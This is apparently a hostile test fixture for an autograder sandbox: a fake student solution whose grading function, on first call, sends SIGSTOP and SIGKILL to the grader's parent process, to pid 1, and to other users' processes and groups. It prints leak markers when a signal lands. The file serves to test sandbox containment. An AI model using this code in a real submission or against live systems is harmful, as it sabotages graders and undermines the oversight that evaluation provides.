# HOSTILE base=solution
"""Attack: kill or freeze the grader: SIGSTOP and SIGKILL to the parent (the zygote), to
pid 1, to every process and process group of another uid it can see.  Prints
LEAK:signalled:<pid> for every one that accepted a signal.  Processes of its own uid are
left alone (they are only this student's), and it refuses to run at all when it was not
given an unprivileged uid of its own (then it could hit the user's own processes)."""
import os
import signal

_done = []


def _uid(pid):
    try:
        with open(f"/proc/{pid}/status") as fh:
            for line in fh:
                if line.startswith("Uid:"):
                    return int(line.split()[1])
    except OSError:
        return None


def _hit(pid, sig, group=False):
    try:
        (os.killpg if group else os.kill)(pid, sig)
        return True
    except OSError:
        return False


def attack():
    me, mine = os.getuid(), os.getpid()
    if me < 100_000:
        print(f"LEAK:not-sandboxed:uid={me} (attack skipped for safety)")
        return
    targets = {os.getppid(), 1}
    others = [int(p) for p in os.listdir("/proc") if p.isdigit() and int(p) != mine]
    owners = {p: _uid(p) for p in others}
    for pid in sorted(targets) + others:
        if owners.get(pid, _uid(pid)) in (me, None):
            continue
        for sig in (signal.SIGSTOP, signal.SIGKILL):
            if _hit(pid, sig):
                print(f"LEAK:signalled:{pid}:{sig}")
        try:
            pgid = os.getpgid(pid)
        except OSError:
            continue
        if pgid > 1 and pgid != os.getpgid(0) and _hit(pgid, signal.SIGKILL, group=True):
            print(f"LEAK:signalled-group:{pgid}")
    print(f"HOSTILE-NOTE tried {len(others)} processes")
    print("HOSTILE-DONE signal_parent")


def sign(x):
    if not _done:
        _done.append(1)
        attack()
    return "WRONG"
